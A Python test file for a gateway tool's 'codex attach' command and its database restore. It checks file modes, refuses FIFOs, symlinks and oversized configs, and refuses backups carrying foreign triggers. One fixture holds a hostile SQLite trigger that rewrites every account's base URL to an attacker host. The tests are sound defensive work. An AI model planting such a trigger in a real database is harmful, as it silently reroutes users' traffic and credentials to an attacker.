"""test_hostile_files.py: `codex attach` on a config.toml that is not the plain
file it expects: the key it writes is never group- or world-readable; a FIFO,
a dangling symlink or an oversized file is refused at once with a clear error
(never a blocked command holding the lock, never the user's link replaced by a
file); a symlink to a regular file is written through; a file of 400,000
tables is attached, checked and detached and comes back byte for byte. How
the time grows with the number of tables is a benchmark's figure
(bench/codex_tables.sh), never a timed assertion here."""

import os
import shutil
import signal
import stat
import subprocess
import tempfile
import time

from harness import GatewayTest, main, switchyard_bin

ORIGINAL = 'model = "gpt-5"\n\n[tui]\nnotifications = false\n'

# How long a command on a file of many tables may run before it counts as
# hung: far above any run on a loaded machine (the slowest seen was 78 s, an
# AddressSanitizer build of the quadratic-era editor on two busy cores; now
# about 1 s of CPU), and below ctest's 300 s for this file, so that a hang
# fails here, naming its command, rather than as ctest's timeout.
HANG_GUARD_S = 240


class HostileFilesTest(GatewayTest):

    def setUp(self):
        super().setUp()
        self.home = tempfile.mkdtemp(prefix="sy-codex-home-")
        self.addCleanup(shutil.rmtree, self.home, True)
        self.cfg = os.path.join(self.home, "config.toml")
        self.g = self.gateway([], start=False)

    def sy(self, *args, check=True, timeout=60):
        p = subprocess.run([switchyard_bin(), "codex", *args, "--db", self.g.db_path, "--codex-home", self.home],
                           capture_output=True, text=True, timeout=timeout, env=self.g.env,
                           stdin=subprocess.DEVNULL)
        if check and p.returncode != 0:
            raise AssertionError(f"codex {args[0]} failed rc={p.returncode}: {p.stderr}")
        return p

    def attach(self, **kw):
        return self.sy("attach", "--gateway", "http://127.0.0.1:9", "--offline", **kw)

    def write_cfg(self, text, mode=0o644):
        with open(self.cfg, "w", newline="") as f:
            f.write(text)
        os.chmod(self.cfg, mode)

    def mode(self, path=None):
        return stat.S_IMODE(os.stat(path or self.cfg).st_mode)

    # ---- the key's file mode

    def test_attach_writes_the_key_owner_only_and_detach_gives_the_mode_back(self):
        self.write_cfg(ORIGINAL, 0o644)
        self.attach()
        with open(self.cfg) as f:
            self.assertIn("experimental_bearer_token", f.read())
        self.assertEqual(self.mode(), 0o600)
        self.sy("detach")
        with open(self.cfg) as f:
            self.assertEqual(f.read(), ORIGINAL)
        self.assertEqual(self.mode(), 0o644)

    def test_attach_again_tightens_a_world_readable_attached_file(self):
        self.write_cfg(ORIGINAL, 0o644)
        self.attach()
        os.chmod(self.cfg, 0o644)  # as an older version left it, or by hand
        p = self.attach()
        self.assertEqual(self.mode(), 0o600, p.stdout)
        self.assertIn("owner only", p.stdout)

    def test_a_new_config_is_created_owner_only(self):
        self.attach()
        self.assertEqual(self.mode(), 0o600)

    # ---- files that are not files

    def test_attach_refuses_a_fifo_at_once_and_releases_the_lock(self):
        os.mkfifo(self.cfg)
        p = self.attach(check=False, timeout=30)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("FIFO", p.stderr)
        self.assertTrue(stat.S_ISFIFO(os.lstat(self.cfg).st_mode))
        # the lock was given back: the next command runs
        self.assertIn("direct", self.sy("status", timeout=30).stdout)

    def test_serve_codex_attach_on_a_fifo_stops_with_a_clear_error(self):
        os.mkfifo(self.cfg)
        self.g.serve_args = ["--codex-attach", self.home]
        args = [switchyard_bin(), "serve", "--db", self.g.db_path, "--listen", "127.0.0.1:0",
                "--codex-attach", self.home]
        with open(self.g.log_path, "ab") as log:
            proc = subprocess.Popen(args, stdout=log, stderr=log, stdin=subprocess.DEVNULL, env=self.g.env,
                                    cwd=self.g.dir)
        try:
            rc = proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.send_signal(signal.SIGKILL)
            proc.wait()
            self.fail("serve --codex-attach hung on a FIFO config.toml")
        self.assertNotEqual(rc, 0)
        self.assertIn("FIFO", self.g.log_text())

    def test_attach_refuses_a_directory(self):
        os.mkdir(self.cfg)
        p = self.attach(check=False)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("directory", p.stderr)

    def test_dangling_symlink_is_refused_and_the_link_stays(self):
        target = os.path.join(self.home, "dotfiles", "codex.toml")
        os.symlink(target, self.cfg)
        p = self.attach(check=False)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("does not exist", p.stderr)
        self.assertIn(target, p.stderr)
        self.assertTrue(os.path.islink(self.cfg))
        self.assertFalse(os.path.exists(target))
        self.sy("detach")
        self.assertTrue(os.path.islink(self.cfg), "detach removed the user's link")

    def test_symlink_to_a_file_is_written_through_and_stays_a_link(self):
        os.mkdir(os.path.join(self.home, "dotfiles"))
        target = os.path.join(self.home, "dotfiles", "codex.toml")
        with open(target, "w") as f:
            f.write(ORIGINAL)
        os.chmod(target, 0o644)
        os.symlink(target, self.cfg)
        self.attach()
        self.assertTrue(os.path.islink(self.cfg))
        with open(target) as f:
            self.assertIn("experimental_bearer_token", f.read())
        self.assertEqual(self.mode(target), 0o600)
        self.sy("detach")
        self.assertTrue(os.path.islink(self.cfg))
        with open(target) as f:
            self.assertEqual(f.read(), ORIGINAL)

    def test_a_config_over_16_mib_is_refused_untouched(self):
        with open(self.cfg, "w") as f:
            f.write("# " + "x" * (16 << 20) + "\n")
        size = os.path.getsize(self.cfg)
        p = self.attach(check=False)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("MiB", p.stderr)
        self.assertEqual(os.path.getsize(self.cfg), size)

    # ---- size

    def big_config(self, tables):
        parts = ['model = "gpt-5"\n']
        parts += [f"[t{i}]\n" for i in range(tables)]
        text = "".join(parts)
        self.write_cfg(text)
        return text

    def test_forty_thousand_tables_attach_and_detach(self):
        text = self.big_config(40000)
        self.attach(timeout=HANG_GUARD_S)
        # attached offline: status says so, and exits 1 because no gateway answers at the written URL
        self.assertIn("attached", self.sy("status", check=False, timeout=HANG_GUARD_S).stdout)
        self.sy("detach", timeout=HANG_GUARD_S)
        with open(self.cfg) as f:
            self.assertEqual(f.read(), text)

    def test_four_hundred_thousand_tables_attach_status_and_detach_finish(self):
        # the timeout stops a hang; it does not measure speed (bench/codex_tables.sh does)
        text = self.big_config(400000)
        started = time.monotonic()
        self.attach(timeout=HANG_GUARD_S)
        self.assertIn("attached", self.sy("status", check=False, timeout=HANG_GUARD_S).stdout)
        self.sy("detach", timeout=HANG_GUARD_S)
        with open(self.cfg) as f:
            self.assertEqual(f.read(), text)
        print(f"  400,000 tables: attach + status + detach in {time.monotonic() - started:.1f} s")


class HostileDatabaseFilesTest(GatewayTest):
    """A database file is taken with exactly the schema's tables, indexes and triggers (issue 33,
    round four): a backup with a trigger of its own (after insert on request_logs, every account's
    base URL sent to an attacker, the operator's fix undone at the next request) is refused by
    `restore`, naming it, the database there left as it was; and a database holding one is not
    opened, by the gateway or any command."""

    STEAL = ("CREATE TRIGGER steal AFTER INSERT ON request_logs BEGIN"
             " UPDATE accounts SET base_url = 'http://attacker.example/v1'; END")

    def add_sql(self, path, sql):
        import sqlite3
        c = sqlite3.connect(path)
        c.execute(sql)
        c.commit()
        c.close()

    def test_a_backup_carrying_a_trigger_is_refused_and_nothing_opens_one(self):
        from harness import account
        g = self.gateway([account("a", self.mock.url("a"))], start=False)
        backup = os.path.join(g.dir, "pool.db")
        g.cli("backup", "--db", g.db_path, "--out", backup)
        self.add_sql(backup, self.STEAL)
        before = g.cli("account", "list", "--db", g.db_path, "--json").stdout
        p = g.cli("restore", backup, "--db", g.db_path, check=False)
        self.assertEqual(p.returncode, 1, p.stderr)
        self.assertIn("holds trigger steal, which switchyard's schema does not define", p.stderr)
        self.assertIn("nothing was changed", p.stderr)
        self.assertEqual(g.cli("account", "list", "--db", g.db_path, "--json").stdout, before)
        self.assertFalse(os.path.exists(g.db_path + ".before-restore"))
        # the same file handed to the gateway or a command: refused, naming it, before any SQL runs
        self.add_sql(g.db_path, self.STEAL)
        p = subprocess.run([switchyard_bin(), "serve", "--db", g.db_path, "--listen", "127.0.0.1:0"],
                           capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("trigger steal", p.stderr + p.stdout)
        p = g.cli("account", "list", "--db", g.db_path, check=False)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("trigger steal", p.stderr)
        self.assertEqual(g.query("SELECT count(*) AS n FROM accounts WHERE base_url LIKE '%attacker%'")[0]["n"], 0)


if __name__ == "__main__":
    main()
